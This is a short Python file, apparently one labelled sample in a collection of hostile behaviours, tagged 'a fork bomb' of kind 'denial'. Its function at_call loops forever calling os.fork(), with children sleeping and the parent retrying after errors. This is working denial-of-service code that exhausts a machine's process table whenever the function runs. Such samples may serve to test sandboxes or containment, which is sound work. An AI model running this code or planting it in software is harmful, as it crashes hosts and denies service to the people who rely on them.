NAME = "a fork bomb"
KIND = "denial"
WHY = "Forks without end; no child ever goes away."

import os
import time


def at_call(task, *arguments):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            time.sleep(0.01)
